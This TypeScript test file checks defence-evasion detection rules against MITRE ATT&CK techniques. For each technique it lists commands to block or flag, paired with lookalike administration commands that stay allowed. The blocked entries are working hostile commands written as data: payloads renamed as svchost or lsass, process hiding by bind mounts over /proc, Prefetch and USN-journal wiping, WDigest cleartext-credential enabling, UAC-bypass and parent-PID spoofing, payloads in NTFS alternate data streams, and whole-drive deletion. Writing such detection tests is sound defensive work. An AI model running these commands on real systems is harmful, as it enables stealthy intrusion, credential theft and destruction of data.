/**
 * Held-out gaps in defence evasion (round 5): each technique with the attack, evasive variants in other
 * shells and spellings, and the benign administration that looks like it and must stay allowed.
 */
import { defenseEvasionRules } from './defense-evasion';
import { describeTechniques, type TechniqueTable } from './family-test-support';

const techniques: TechniqueTable = {
  'masquerading as a core Windows process (T1036.003/.005)': {
    blocked: [
      ['copy "C:\\Tools\\payload.exe" ($env:TEMP + "\\svchost.exe")', 'powershell', 'evasion.masquerade'],
      ['copy "$env:ComSpec" ($env:TEMP + "\\svchost.exe")', 'powershell', 'evasion.masquerade'],
      ['Copy-Item -Path .\\agent.exe -Destination "$env:APPDATA\\lsass.exe"', 'powershell', 'evasion.masquerade'],
      ['Move-Item C:\\Users\\Public\\a.exe C:\\Users\\Public\\csrss.exe', 'powershell', 'evasion.masquerade'],
      ['Rename-Item .\\update.exe -NewName winlogon.exe', 'powershell', 'evasion.masquerade'],
      ['ren %TEMP%\\x.bin smss.exe', 'cmd', 'evasion.masquerade'],
      ['copy C:\\Windows\\System32\\cmd.exe C:\\lsm.exe', 'cmd', 'evasion.masquerade'],
      ['Add-Type -TypeDefinition $src -OutputAssembly "$Env:windir\\Temp\\svchost.exe"', 'powershell', 'evasion.masquerade'],
      ['csc.exe /out:C:\\Users\\Public\\services.exe payload.cs', 'cmd', 'evasion.masquerade'],
      ['Invoke-WebRequest https://example.com/a -OutFile $env:TEMP\\explorer.exe', 'powershell', 'evasion.masquerade'],
      ["Copy-Item .\\a.exe -Destination (Join-Path $env:TEMP 'svchost.exe')", 'powershell', 'evasion.masquerade'],
      ["cp .\\a.exe ($env:TEMP + '\\svc' + 'host.exe')", 'powershell', 'evasion.masquerade'],
      ['[IO.File]::Copy(\'C:\\x\\a.exe\', "$env:TEMP\\svchost.exe")', 'powershell', 'evasion.masquerade'],
      ['move /y %TEMP%\\a.tmp %APPDATA%\\Microsoft\\lsass.exe', 'cmd', 'evasion.masquerade'],
      ['curl -o %TEMP%\\svchost.exe https://x.example/a', 'cmd', 'evasion.masquerade'],
    ],
    allowed: [
      ['copy C:\\Builds\\svc.exe "C:\\Program Files\\Vendor\\svc.exe"', 'cmd'],
      ['Copy-Item C:\\Windows\\System32\\svchost.exe D:\\Forensics\\svchost.exe', 'powershell'],
      ['copy svchost.exe.bak svchost.exe', 'cmd'],
      ['Get-Process svchost | Sort-Object CPU', 'powershell'],
      ['Add-Type -TypeDefinition $src -OutputAssembly C:\\Build\\Tool.dll', 'powershell'],
      ['csc /out:C:\\Build\\Inventory.exe Inventory.cs', 'cmd'],
      ["Copy-Item \\\\fs01\\deploy\\agent.exe -Destination 'C:\\Program Files\\Agent\\agent.exe'", 'powershell'],
      ['Rename-Item C:\\Apps\\svchost-monitor.exe svchost-monitor.old', 'powershell'],
    ],
  },
  'deceptive POSIX names: dots-only folders, leading or trailing spaces (T1036.005/.006)': {
    blocked: [
      ['cp $(which sh) $HOME/...', 'bash', 'evasion.masquerade.deceptive-path'],
      ['$HOME/.../sh -c "id"', 'bash', 'evasion.masquerade.deceptive-path'],
      ["'./testdir /init '", 'bash', 'evasion.masquerade.deceptive-path'],
      ["cp /usr/bin/perl '/tmp/init  '", 'sh', 'evasion.masquerade.deceptive-path'],
      ["cp /tmp/x ' sshd'", 'bash', 'evasion.masquerade.deceptive-path'],
      ['chmod +x "/tmp/ sshd"', 'bash', 'evasion.masquerade.deceptive-path'],
      ['mv /tmp/payload "/var/tmp/.. /x"', 'zsh', 'evasion.masquerade.deceptive-path', 'macos'],
    ],
    flagged: [['mkdir -p /tmp/...', 'bash', 'evasion.masquerade.deceptive-path']],
    allowed: [
      ['cd ../..', 'bash'],
      ['cp ../config.yaml ./config.yaml', 'bash'],
      ['mkdir -p "/home/me/My Documents/reports"', 'bash'],
      ['../scripts/deploy.sh --dry-run', 'bash'],
      ['chmod 644 "/srv/share/Annual Report.pdf"', 'bash'],
      ['ls -la ~/.local/bin', 'bash'],
      ['tar czf /tmp/backup.tgz ./...', 'bash'],
    ],
  },
  'hiding a process with a bind mount over /proc (T1036.004/T1564)': {
    blocked: [
      ['sudo mount -B /proc/$kpid /proc/$(cat /tmp/pid)', 'bash', 'evasion.process-hiding.mount'],
      ['mount --bind /proc/2 /proc/4242', 'sh', 'evasion.process-hiding.mount'],
      ['mount -o bind /proc/1 /proc/31337', 'bash', 'evasion.process-hiding.mount'],
    ],
    allowed: [
      ['sudo mount --bind /proc /mnt/chroot/proc', 'bash'],
      ['mount -t proc proc /proc', 'bash'],
      ['mount --bind /dev /mnt/sysimage/dev', 'bash'],
      ['mount --bind /srv/data /var/www/data', 'bash'],
      ['mount | grep proc', 'bash'],
    ],
  },
  'indicator removal: Prefetch, PowerShell history, change journal (T1070.004/.003)': {
    flagged: [
      [
        'Remove-Item -Path (Join-Path "$Env:SystemRoot\\prefetch\\" (Get-ChildItem -Path "$Env:SystemRoot\\prefetch\\*.pf" -Name)[0])',
        'powershell',
        'evasion.prefetch.delete',
      ],
      ['del /q /f C:\\Windows\\Prefetch\\*.pf', 'cmd', 'evasion.prefetch.delete'],
      ['erase %SystemRoot%\\Prefetch\\CMD.EXE-4A81B364.pf', 'cmd', 'evasion.prefetch.delete'],
      ['del %APPDATA%\\Microsoft\\Windows\\PowerShell\\PSReadLine\\ConsoleHost_history.txt', 'cmd', 'evasion.history.tamper'],
      ['fsutil usn deletejournal /D C:', 'cmd', 'evasion.usn-journal.delete'],
      ['fsutil.exe usn deletejournal /n c:', 'powershell', 'evasion.usn-journal.delete'],
    ],
    allowed: [
      ['dir C:\\Windows\\Prefetch', 'cmd'],
      ['Get-ChildItem $env:SystemRoot\\Prefetch\\*.pf | Measure-Object', 'powershell'],
      ['del /q C:\\Build\\prefetch-cache\\*.tmp', 'cmd'],
      ['fsutil usn queryjournal C:', 'cmd'],
      ['Get-Content (Get-PSReadLineOption).HistorySavePath -Tail 20', 'powershell'],
    ],
  },
  'booting into Safe Mode to escape security tools (T1562.009)': {
    flagged: [
      ['bcdedit /set safeboot network', 'cmd', 'evasion.safe-mode-boot'],
      ['bcdedit /set {current} safeboot minimal', 'cmd', 'evasion.safe-mode-boot'],
      ['bcdedit.exe /set {default} safebootalternateshell yes', 'powershell', 'evasion.safe-mode-boot'],
    ],
    allowed: [
      ['bcdedit /enum', 'cmd'],
      ['bcdedit /deletevalue {current} safeboot', 'cmd'],
      ['bcdedit /set {current} description "Windows Server"', 'cmd'],
    ],
  },
  'WDigest cleartext credential caching (T1112 / T1003)': {
    blocked: [
      [
        'reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f',
        'cmd',
        'evasion.wdigest.cleartext',
      ],
      [
        'Set-ItemProperty -Path HKLM:\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest -Name UseLogonCredential -Value 1',
        'powershell',
        'evasion.wdigest.cleartext',
      ],
      [
        'New-ItemProperty "HKLM:\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest" -Name UseLogonCredential -PropertyType DWord -Value 1 -Force',
        'powershell',
        'evasion.wdigest.cleartext',
      ],
    ],
    allowed: [
      ['reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 0 /f', 'cmd'],
      ['reg query HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential', 'cmd'],
      [
        'Set-ItemProperty -Path HKLM:\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest -Name UseLogonCredential -Value 0',
        'powershell',
      ],
    ],
  },
  'UAC-bypass and parent-process spoofing tools (T1548.002 / T1134.004)': {
    blocked: [
      ['"%temp%\\uacme\\23 Akagi64.exe"', 'cmd', 'evasion.uac-bypass.tool'],
      ['C:\\Users\\Public\\akagi32.exe 61 C:\\Windows\\System32\\cmd.exe', 'cmd', 'evasion.uac-bypass.tool'],
      ['& "$env:TEMP\\Akagi64.exe" 33', 'powershell', 'evasion.uac-bypass.tool'],
      [
        '. C:\\Tools\\PPID-Spoof.ps1\nPPID-Spoof -ppid $ppid -spawnto "C:\\Program Files\\Internet Explorer\\iexplore.exe" -dllpath C:\\x\\calc.dll',
        'powershell',
        'evasion.ppid-spoof',
      ],
      ['SelectMyParent.exe notepad.exe 508', 'cmd', 'evasion.ppid-spoof'],
      [
        '$attr = [IntPtr]::Zero; [Kernel32]::UpdateProcThreadAttribute($attr, 0, 0x00020000, $hParent, [IntPtr]::Size, 0, 0); [Kernel32]::CreateProcess($null, "notepad.exe", 0, 0, $false, 0x80000, 0, $null, [ref]$si, [ref]$pi)',
        'powershell',
        'evasion.ppid-spoof',
      ],
    ],
    allowed: [
      ['Get-MpThreatDetection | Where-Object { $_.Resources -match "akagi" }', 'powershell'],
      ['Get-CimInstance Win32_Process | Select-Object ProcessId, ParentProcessId, Name', 'powershell'],
      ['tasklist /v', 'cmd'],
    ],
  },
  'NTFS alternate data streams hiding or running payloads (T1564.004)': {
    blocked: [
      ['type C:\\temp\\evil.exe > C:\\temp\\file.txt:hidden.exe', 'cmd', 'evasion.ads.hide'],
      [
        'Start-Process -FilePath "$env:comspec" -ArgumentList "/c,type,c:\\windows\\system32\\cmd.exe,>,`"C:\\Users\\Public\\desktop.ini:desktop.ini`""',
        'powershell',
        'evasion.ads.hide',
      ],
      ['for /f "usebackq delims=?" %%i in (%temp%\\has_ads.txt:adstest.txt) do %%i', 'cmd', 'evasion.ads.execute'],
      ['wmic process call create "C:\\ProgramData\\report.txt:payload.exe"', 'cmd', 'evasion.ads.execute'],
      ['start C:\\Users\\Public\\notes.txt:evil.exe', 'cmd', 'evasion.ads.execute'],
      ['rundll32 C:\\Users\\Public\\log.txt:evil.dll,DllMain', 'cmd', 'evasion.ads.execute'],
      ['cscript //E:vbscript C:\\ProgramData\\readme.txt:run.vbs', 'cmd', 'evasion.ads.execute'],
      ['makecab C:\\tools\\nc.exe C:\\ProgramData\\log.txt:nc.cab', 'cmd', 'evasion.ads.hide'],
      ['cmd.exe - < C:\\temp\\notes.txt:cmds.bat', 'cmd', 'evasion.ads.execute'],
      ['esentutl.exe /y C:\\temp\\autoruns.exe /d C:\\temp\\file.txt:autoruns.exe /o', 'cmd', 'evasion.ads.hide'],
      // A stream's content read (also with -Stream abbreviated) in a text that runs code.
      ['$c = gc C:\\Users\\Public\\log.txt -st payload\niex $c', 'powershell', 'evasion.ads.execute'],
      ['Start-Process powershell -ArgumentList "-c", (Get-Content C:\\x\\notes.txt -Stream run -Raw)', 'powershell', 'evasion.ads.execute'],
    ],
    flagged: [
      ['Set-Content -Path C:\\temp\\a.txt -Stream payload -Value $bytes', 'powershell', 'evasion.ads.write'],
      ['Get-Content C:\\t\\x.exe -Raw | Set-Content C:\\t\\a.txt -Stream s', 'powershell', 'evasion.ads.write'],
    ],
    allowed: [
      ['Get-Item C:\\Downloads\\setup.exe -Stream *', 'powershell'],
      ['Get-Content C:\\Downloads\\setup.exe -Stream Zone.Identifier', 'powershell'],
      ['Unblock-File -Path C:\\Downloads\\setup.exe', 'powershell'],
      ['Remove-Item C:\\Downloads\\setup.exe -Stream Zone.Identifier', 'powershell'],
      ['dir /r C:\\Downloads', 'cmd'],
      ['echo done > C:\\logs\\run.txt', 'cmd'],
      ['echo %date% > C:\\logs\\backup_%date:~-4,4%%date:~-10,2%.log', 'cmd'],
      ['Get-Service | Out-File "C:\\logs\\$(Get-Date -f HH:mm).txt"', 'powershell'],
      ['more < C:\\temp\\notes.txt:info', 'cmd'],
      ['Set-Content -Path C:\\Downloads\\file.exe -Stream Zone.Identifier -Value "[ZoneTransfer]`nZoneId=3"', 'powershell'],
      // A sentence written into a stream, also through a splatted hashtable (PowerShell-Docs' Add-Content example).
      ["Add-Content -Path .\\Stream.txt -Stream NewStream -Value 'Added a stream named NewStream'", 'powershell'],
      ["$p = @{ Path = '.\\Stream.txt'; Stream = 'NewStream'; Value = 'Added a stream' }\nAdd-Content @p", 'powershell'],
      ['start http://localhost:8080/status', 'cmd'],
      ['start ms-settings:windowsupdate', 'cmd'],
      ['start "" "C:\\Reports\\Q3 summary.txt"', 'cmd'],
      ['for /f "tokens=1,2 delims=:" %a in (C:\\config\\hosts.txt) do echo %a %b', 'cmd'],
      ['net use Z: \\\\fileserver\\share /user:CORP\\svc-backup', 'cmd'],
      // `-stream` in a package name or as Out-String's switch reads no stream, whatever else the script starts.
      ["choco install google-drive-file-stream -y\nStart-Process msiexec -ArgumentList '/x {1234}'", 'powershell'],
      ['Get-Alias | Out-String -Stream\nStart-Process notepad', 'powershell'],
      ['Get-Content C:\\t\\x.ps1 -Stream Zone.Identifier\nStart-Process notepad', 'powershell'],
    ],
  },
  'destroying the whole system drive (T1485)': {
    blocked: [
      ['rm -rf / --no-preserve-root > /dev/null 2> /dev/null', 'sh', 'evasion.destroy.system'],
      ['sudo rm -rf --no-preserve-root /', 'bash', 'evasion.destroy.system'],
      ['rm -fr /*', 'bash', 'evasion.destroy.system'],
      ['rd /s /q C:\\', 'cmd', 'evasion.destroy.system'],
      ['Remove-Item -Path C:\\* -Recurse -Force', 'powershell', 'evasion.destroy.system'],
      ['Remove-Item $env:SystemRoot -Recurse -Force', 'powershell', 'evasion.destroy.system'],
    ],
    allowed: [
      ['rm -rf /tmp/build', 'bash'],
      ['rm -rf ./node_modules', 'bash'],
      ['rd /s /q C:\\Temp\\Build', 'cmd'],
      ['rd /s /q E:\\', 'cmd'],
      ['Remove-Item -Recurse -Force C:\\Windows\\Temp\\*', 'powershell'],
      ['Remove-Item C:\\Temp\\* -Recurse -Force', 'powershell'],
      ['rm /tmp/*.log', 'bash'],
    ],
  },
};

describeTechniques('defence evasion held-out gaps', defenseEvasionRules, techniques);
